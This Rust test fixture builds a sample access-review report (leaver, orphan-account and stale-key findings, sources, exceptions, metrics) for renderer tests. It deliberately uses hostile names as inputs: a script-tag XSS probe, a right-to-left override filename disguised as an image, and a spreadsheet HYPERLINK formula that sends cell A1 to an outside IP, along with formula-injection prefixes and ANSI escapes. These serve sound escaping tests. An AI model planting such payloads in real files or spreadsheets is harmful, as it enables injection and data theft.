//! A report with everything in it, hostile names included: what the renderers' tests look at.

use serde_json::{Value, json};

use super::model::*;
use crate::metrics::{Curve, CurvePoint, Line, Metric, Metrics, Quantity, TrendPoint};
use crate::model::{Answer, Certainty, FindingState, MatchState, OutcomeKind, RecordUnit, Severity, Standing, SubjectKind, Time};

pub const SCRIPT: &str = "<script>alert('x')</script>";
pub const OVERRIDE: &str = "invoice\u{202e}gpj.exe";
pub const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.9/\"&A1,\"open\")";

pub fn at(text: &str) -> Time {
    Time::parse_iso(text).unwrap()
}

/// A name of 2,000 characters without a blank.
pub fn long() -> String {
    "cn=verylongname".repeat(134)
}

fn origin(file: &str, number: u64) -> Origin {
    Origin { table: "accounts".into(), fact: "row".into(), file: file.into(), unit: RecordUnit::Line, number }
}

fn finding(check: &str, severity: Severity, system: &str, n: u64, name: &str) -> FindingEntry {
    let native_id = format!("{system}/guid-{n:04}");
    FindingEntry {
        fingerprint: format!("{:016x}{:016x}", 0x9f3a_2c10_b4de_1100_u64.wrapping_mul(n + 1), n),
        check: check.into(),
        severity,
        certainty: if n % 9 == 4 { Certainty::Possible } else { Certainty::Certain },
        state: [FindingState::New, FindingState::Open, FindingState::Open, FindingState::Reopened, FindingState::Unverified]
            [usize::try_from(n).unwrap() % 5],
        also: false,
        system: system.into(),
        subject: Subject { kind: SubjectKind::Account, native_id: native_id.clone(), name: Some(name.into()) },
        account: Some(native_id.clone()),
        identity: None,
        identity_name: None,
        principal: None,
        target: None,
        target_name: None,
        resource: None,
        case_key: format!("{system}|{native_id}"),
        observed_at: Some(at("2026-11-22T00:00:00Z")),
        since: Some(at("2026-05-03T00:00:00Z")),
        age_days: Some(203.0),
        title: format!("`{name}` is live, and nobody in `hr` fits it"),
        remedy: format!("disable `{name}`, or add its owner to the registry"),
        evidence: vec![
            ("login".into(), Value::from(name)),
            ("status".into(), Value::from("active")),
            ("created_at".into(), Value::from("2025-01-31T08:15:00Z")),
            ("last_used_at".into(), Value::Null),
            ("roles".into(), json!(["reader", "writer"])),
        ],
        origins: vec![origin(&format!("{system}/users.ldif#1a2b3c4d"), 18 + n * 23)],
        exception: None,
        first_seen: at("2026-11-15T00:00:00Z"),
        last_seen: at("2026-11-22T00:00:00Z"),
        controls: vec!["NIST SP 800-53 AC-2(3)".into(), "ISO/IEC 27001 A.5.18".into()],
    }
}

fn leaver(n: u64, person: &str, group: &str) -> FindingEntry {
    let mut f = finding("leaver-access-unremoved", Severity::Critical, "ad-corp", n, person);
    let account = f.subject.native_id.clone();
    f.subject.kind = SubjectKind::Edge;
    f.subject.native_id = format!("{account} -> {group}");
    f.subject.name = None;
    f.identity = Some(format!("E{n:05}"));
    f.identity_name = Some(person.into());
    f.principal = Some(account);
    f.target = Some(group.into());
    f.target_name = Some(group.into());
    f.case_key = format!("ad-corp|{person}");
    f.title = format!("`{person}` left 2026-05-03 and is still a member of `{group}`, 203 days later");
    f.remedy = format!("remove `{person}` from `{group}`");
    f.state = FindingState::New;
    f.certainty = Certainty::Certain;
    f
}

fn findings() -> Vec<FindingEntry> {
    let mut all = Vec::new();
    for (i, group) in ["Domain Admins", "VPN Users", "Finance Share RW"].into_iter().enumerate() {
        let mut f = leaver(100, "Jane Doe", group);
        f.fingerprint = format!("{:032x}", 0xa0 + i);
        all.push(f);
    }
    all.push(leaver(101, SCRIPT, "Backup <Operators>"));
    let long = long();
    let names =
        [SCRIPT, OVERRIDE, FORMULA, &long, "-2+3", "@SUM(A1)", "tab\tin\nname", "\u{1b}[31mred\u{1b}[0m", "山田\u{3000}太郎", "Zoë Ōtani"];
    for (n, name) in (0..).zip(names) {
        all.push(finding("orphan-account", Severity::High, "ad-corp", n, name));
    }
    for n in 10..32 {
        let mut f = finding("stale-key", Severity::Medium, "aws-prod", n, &format!("arn:aws:iam::123456789012:user/ci/deployer-{n}"));
        f.subject.kind = SubjectKind::Credential;
        f.title = format!("access key of `deployer-{n}` is 203 days old, the limit is 90");
        f.remedy = format!("rotate or delete the access key of `deployer-{n}`");
        all.push(f);
    }
    all.push(source_finding());
    let mut excepted = finding("orphan-account", Severity::High, "ad-corp", 40, "svc-legacy");
    (excepted.state, excepted.exception) = (FindingState::Excepted, Some("EX-7".into()));
    let mut resolved = finding("orphan-account", Severity::High, "ad-corp", 41, "old-temp");
    resolved.state = FindingState::Resolved;
    let mut also = finding("dormant-account", Severity::Low, "ad-corp", 42, "jdoe");
    also.also = true;
    all.extend([excepted, resolved, also]);
    all.into_iter().map(|f| f.complete().unwrap()).collect()
}

fn source_finding() -> FindingEntry {
    let mut f = finding("source-incomplete", Severity::High, "aws-prod", 50, "aws-prod");
    f.subject = Subject { kind: SubjectKind::Source, native_id: "aws-prod".into(), name: None };
    (f.account, f.since, f.age_days, f.origins) = (None, None, None, Vec::new());
    f.case_key = "aws-prod|source".into();
    f.title = "the export of `aws-prod` is short: the last page names a next one".into();
    f.remedy = "export `aws-prod` again with all pages".into();
    f.certainty = Certainty::Certain;
    f
}

fn check(id: &str, title: &str, severity: Severity, outcomes: Vec<CheckOutcome>) -> CheckEntry {
    CheckEntry {
        id: id.into(),
        title: title.into(),
        severity,
        severity_was: None,
        confidence: "high".into(),
        grain: "account".into(),
        description: "An account that can authenticate and that no record of any authority explains. Nobody will ask for its removal when its reason ends.".into(),
        remedy: "Disable the account, or record who answers for it.".into(),
        false_positives: vec!["A contractor who is kept in another list: add that list as an authority.".into()],
        controls: vec!["NIST SP 800-53 AC-2(3)".into(), "ISO/IEC 27001 A.5.18".into()],
        parameters: vec![("stale_after".into(), "90 days".into())],
        outcomes,
        asked: Asked::default(),
        counts: Totals::default(),
        rule_text: "SELECT a.native_id AS subject,\n       a.login AS login\nFROM accounts AS a\nWHERE a.match_state = 'orphan'\n  AND a.status <> 'disabled' -- locks lapse".into(),
        overridden: None,
    }
}

fn outcome(system: &str, population: u64, certain: u64, possible: u64) -> CheckOutcome {
    CheckOutcome {
        system: system.into(),
        outcome: OutcomeKind::Evaluated,
        reason: None,
        asked: Asked { population, evaluated: population - 12, unknown: 9, too_new: 2, not_yet_observable: 1, before_coverage: 0 },
        certain,
        possible,
    }
}

fn not_evaluated(system: &str, reason: &str) -> CheckOutcome {
    CheckOutcome {
        system: system.into(),
        outcome: OutcomeKind::NotEvaluated,
        reason: Some(reason.into()),
        asked: Asked::default(),
        certain: 0,
        possible: 0,
    }
}

fn checks() -> Vec<CheckEntry> {
    let mut stale = check("stale-key", "Access key older than its limit", Severity::Medium, vec![outcome("aws-prod", 96, 19, 3)]);
    (stale.severity_was, stale.overridden) = (Some(Severity::High), Some("rotation is automated from January".into()));
    vec![
        check("leaver-access-unremoved", "Access of somebody who left", Severity::Critical, vec![outcome("ad-corp", 1204, 4, 0)]),
        check(
            "orphan-account",
            "Account that nobody answers for",
            Severity::High,
            vec![outcome("ad-corp", 2310, 9, 1), outcome("ldap-lab", 44, 0, 0)],
        ),
        stale,
        check("source-incomplete", "Source that does not show everything", Severity::High, vec![outcome("*", 12, 1, 0)]),
        check("dormant-account", "Account that nobody uses", Severity::Low, vec![outcome("ad-corp", 2310, 0, 0)]),
        check(
            "disabled-account-live-credential",
            "Live credential of a disabled account",
            Severity::High,
            vec![not_evaluated("ad-corp", "`credentials` is not covered"), not_evaluated("ldap-lab", "`credentials` is not covered")],
        ),
    ]
}

fn file(name: &str, read: u64, rejected: u64) -> SourceFile {
    SourceFile {
        name: name.into(),
        size: read * 611,
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
        shape: "ldif, ldapsearch".into(),
        read,
        accepted: read - rejected,
        rejected,
        ..SourceFile::default()
    }
}

fn source(system: &str, connector: &str, files: Vec<SourceFile>) -> Source {
    Source {
        system: system.into(),
        connector: connector.into(),
        observed_at: at("2026-11-22T00:00:00Z"),
        taken_at_from: "config".into(),
        age_days: Some(0.0),
        team: Some("platform".into()),
        owner: Some("Ops <ops@example.org>".into()),
        environment: Some("production".into()),
        authority: false,
        expected: true,
        complete: true,
        fresh: Answer::Yes,
        problems: Vec::new(),
        covers: vec!["accounts".into(), "groups".into(), "memberships".into()],
        tables: vec![("accounts".into(), 2310), ("groups".into(), 180), ("memberships".into(), 9120)],
        files,
        ignored_later: 0,
    }
}

fn sources() -> Vec<Source> {
    let mut ad = file("ad-corp/users.ldif", 2312, 2);
    ad.extracted_by = Some("A. Admin".into());
    ad.command = Some("ldapsearch -LLL -E pr=1000/noprompt '(objectClass=user)'".into());
    ad.notes = vec![("`thumbnailPhoto` left out".into(), 311)];
    let mut aws = source("aws-prod", "aws-iam", vec![file("aws/prod/page <1>.json", 96, 0)]);
    (aws.complete, aws.taken_at_from) = (false, "inferred".into());
    aws.problems = vec!["`aws/prod/page <1>.json` ends with a `NextToken`: pages are missing".into()];
    if let Some(f) = aws.files.first_mut() {
        f.short = vec!["ends with a `NextToken`".into()];
        f.control_total = Some(140);
    }
    let mut hr = source("hr", "tabular", vec![file("hr/people.csv", 400, 0)]);
    (hr.authority, hr.environment, hr.owner) = (true, None, None);
    let mut lab = source("ldap-lab", "ldif", vec![file("lab/slapcat.ldif", 44, 0)]);
    (lab.expected, lab.fresh, lab.age_days, lab.observed_at) = (false, Answer::No, Some(40.0), at("2026-10-13T00:00:00Z"));
    (lab.problems, lab.ignored_later) = (vec!["40 days old, the limit is 14".into()], 1);
    vec![source("ad-corp", "ldif", vec![ad, file("ad-corp/groups.ldif", 180, 0)]), aws, hr, lab]
}

fn exceptions() -> Vec<ExceptionEntry> {
    let entry = |id: &str, status, why: &str, findings| ExceptionEntry {
        id: id.into(),
        status,
        why: why.into(),
        findings,
        expires_at: Some(at("2026-12-31T00:00:00Z")),
        owner: Some("Lee Owner".into()),
        approver: None,
    };
    vec![
        entry("EX-7", ExceptionStatus::Applies, "covers `svc-legacy`", 1),
        entry("EX-9", ExceptionStatus::Void, "`approver` is missing", 0),
        entry("EX-11", ExceptionStatus::Unmatched, "no finding of `stale-key` names `deployer-99`", 0),
    ]
}

fn metrics() -> Metrics {
    let words = |m: &str| Metric::new(m, "A number with its definition", "accounts", "What it says.", "Of whom.", "How.");
    let mut orphans = words("orphan-rate");
    orphans.put("orphans", Quantity::Count { certain: 11, possible: 6 });
    orphans.put_some("share", Quantity::share(11, 6, 2267));
    let cells = |q: &[Quantity]| q.iter().copied().map(Some).collect::<Vec<_>>();
    let line = Line { key: SCRIPT.into(), cells: cells(&[Quantity::count(4), Quantity::count(1)]) };
    orphans.by(
        "system",
        &["share", "accounts judged"],
        vec![line, Line { key: OVERRIDE.into(), cells: vec![None, Some(Quantity::count(2))] }],
    );
    orphans.notes.push("`crm` is missing".into());
    let mut exceptions = words("exception-volume");
    exceptions.put("open", Quantity::count(3));
    let age = |key: &str, n: [u64; 2]| Line { key: key.into(), cells: cells(&n.map(Quantity::count)) };
    exceptions.by("age", &["open", "expired"], vec![age("up to 30 days", [1, 0]), age("over 365 days", [2, 1])]);
    let mut revoke = words("time-to-revoke");
    revoke.put("estimated share closed within 24 h", Quantity::Estimate { low: 0.25, high: 0.5 });
    revoke.put_some("seen to close within 24 h", Quantity::share(1, 1, 4));
    revoke.put("estimated median", Quantity::Days { low: 1.0, high: None });
    let point = |days, low, high| CurvePoint { days, low, high };
    Metrics {
        list: vec![exceptions, orphans, revoke, words("failed-workflows").without("no source covers a workflow log")],
        curves: vec![Curve {
            clock: "effective".into(),
            cases: 4,
            closed: 3,
            open: 1,
            sla_days: 1.0,
            points: vec![point(0.0, 1.0, 1.0), point(0.5, 0.5, 1.0), point(7.0, 0.25, 0.5)],
            until_days: 30.0,
        }],
        trend: vec![
            TrendPoint {
                run: "20261115T000000Z-99887766".into(),
                as_of: at("2026-11-15T00:00:00Z"),
                new: 20,
                certain: 20,
                ..TrendPoint::default()
            },
            TrendPoint {
                run: "20261122T000000Z-1a2b3c4d".into(),
                as_of: at("2026-11-22T00:00:00Z"),
                certain: 33,
                possible: 4,
                new: 12,
                open: 13,
                reopened: 6,
                unverified: 6,
                excepted: 1,
                resolved: 1,
            },
        ],
    }
}

pub fn report() -> Report {
    Report {
        tool_version: "0.1.0".into(),
        run: "20261122T000000Z-1a2b3c4d".into(),
        as_of: at("2026-11-22T00:00:00Z"),
        as_of_from: AsOfFrom::Given,
        previous_run: Some("20261115T000000Z-99887766".into()),
        headline: vec!["`crm` is expected and has no snapshot: nothing is known of it".into()],
        verdict: Verdict {
            exit_code: 3,
            word: VerdictWord::Incomplete,
            sentences: vec![
                "Two expected sources do not show everything: `aws-prod` is short, `crm` is missing.".into(),
                "What they would show is not evaluated; it is not clean.".into(),
            ],
        },
        totals: Totals::default(),
        sources: sources(),
        missing: vec![MissingSource { system: "crm".into(), expected: true }],
        rejects: vec![RejectEntry {
            system: "ad-corp".into(),
            file: "ad-corp/users.ldif".into(),
            unit: RecordUnit::Line,
            number: 1841,
            reason: "ldif/missing-attribute".into(),
            message: "user entry has no `sAMAccountName`".into(),
            help: "include `sAMAccountName` in the export's attribute list, then import again".into(),
            excerpt: Some("xx: XX=xxxx <xxx>".into()),
        }],
        rejects_total: 2,
        identity: vec![IdentityCounts {
            system: "ad-corp".into(),
            accounts: 2310,
            linked: 2250,
            disputed: 6,
            orphan: 11,
            ghost: 4,
            not_applicable: 39,
            ..IdentityCounts::default()
        }],
        checks: checks(),
        findings: findings(),
        exceptions: exceptions(),
        overrides: vec![OverrideEntry {
            check: "stale-key".into(),
            what: "severity high -> medium".into(),
            reason: "rotation is automated from January".into(),
        }],
        metrics: metrics(),
    }
    .seal()
}

pub fn explanation() -> Explanation {
    let report = report();
    let finding = report.findings.iter().find(|f| f.check == "leaver-access-unremoved").unwrap().clone();
    Explanation {
        run: report.run.clone(),
        as_of: report.as_of,
        check: report.checks.iter().find(|c| c.id == finding.check).cloned(),
        candidates: vec![Candidate {
            identity: "E00100".into(),
            name: Some("Jane Doe".into()),
            state: MatchState::Linked,
            standing: Standing::Left,
            score: 0.98,
            trace: vec![
                TraceLine {
                    tier: 2,
                    rule: "employee-number".into(),
                    weight: 0.95,
                    account_column: "employee_ref".into(),
                    identity_column: "employee_number".into(),
                    value: "00100".into(),
                },
                TraceLine {
                    tier: 3,
                    rule: "email".into(),
                    weight: 0.6,
                    account_column: "email_norm".into(),
                    identity_column: "email_norm".into(),
                    value: "jane.doe@example.org\u{202e}".into(),
                },
            ],
        }],
        path: vec![
            PathStep { kind: "account".into(), name: "jdoe".into(), native_id: Some("ad-corp/guid-0100".into()), by: None },
            PathStep { kind: "group".into(), name: "Domain Admins".into(), native_id: None, by: Some("member of".into()) },
            PathStep { kind: "group".into(), name: "Administrators".into(), native_id: None, by: Some("member of".into()) },
        ],
        arithmetic: vec![
            Arithmetic {
                what: "since the end of employment".into(),
                to: at("2026-11-22T00:00:00Z"),
                from: at("2026-05-03T00:00:00Z"),
                from_after: None,
                limit: Some(Limit { name: "stale_after".into(), micros: 90 * crate::model::time::DAY }),
            },
            Arithmetic {
                what: "since HR knew".into(),
                to: at("2026-11-22T00:00:00Z"),
                from: at("2026-05-10T00:00:00Z"),
                from_after: Some(at("2026-05-03T00:00:00Z")),
                limit: None,
            },
        ],
        exception: None,
        finding,
    }
}
